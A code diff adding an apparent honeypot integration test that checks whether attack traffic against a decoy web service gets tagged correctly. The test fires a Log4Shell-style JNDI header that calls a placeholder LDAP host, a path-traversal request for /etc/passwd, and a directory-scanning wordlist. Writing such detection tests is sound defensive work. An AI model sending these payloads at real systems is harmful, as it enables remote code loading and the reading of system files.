@@ -126,3 +126,28 @@ fn a_connection_that_sends_nothing_or_dribbles_headers_is_closed_on_its_deadline
     drop(silent);
     assert!(raw(addr, b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n").starts_with(b"HTTP/1.1 404"), "still serving");
 }
+
+#[test]
+fn exploit_patterns_and_wordlist_scanning_are_tagged() {
+    let dir = tempfile::tempdir().unwrap();
+    let hw = Honeyward::start(dir.path(), &config(&http_decoy("web")));
+    let addr = hw.addr("web");
+    let base = format!("http://{addr}");
+    let curl = |args: &[&str]| assert!(Command::new("curl").args(["-s", "-o", "/dev/null", "--path-as-is"]).args(args).status().unwrap().success());
+    curl(&["-H", "X-Api-Version: ${jndi:ldap://198.51.100.7/a}", &format!("{base}/")]);
+    curl(&[&format!("{base}/cgi-bin/../../../../etc/passwd")]);
+    for word in ["admin", "backup", "wp-admin", "phpmyadmin", "old", "test", "dev", "api", "console", "manager", "db", "sql", "dump", "temp", "tmp", "logs", "private", "secret", "config", "portal", "login", "setup"] {
+        curl(&[&format!("{base}/{word}")]);
+    }
+    let db = hw.store();
+    assert!(eventually(10, || count_kind(&db, "http_request") == 24));
+    let out = Command::new(BIN).args(["events", "list", "--json", "--kind", "http_request", "--limit", "100"]).current_dir(dir.path()).output().unwrap();
+    let events: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(events[0]["details"]["tags"][0], "exploit");
+    assert_eq!(events[0]["attack"]["id"], "T1190");
+    assert_eq!(events[0]["severity"], "high");
+    assert_eq!(events[1]["attack"]["id"], "T1190");
+    assert!(events[2]["details"].get("tags").is_none(), "the first 404s are not yet a scan");
+    assert_eq!(events[23]["details"]["tags"][0], "scanning");
+    assert_eq!(events[23]["attack"]["id"], "T1595.003");
+}
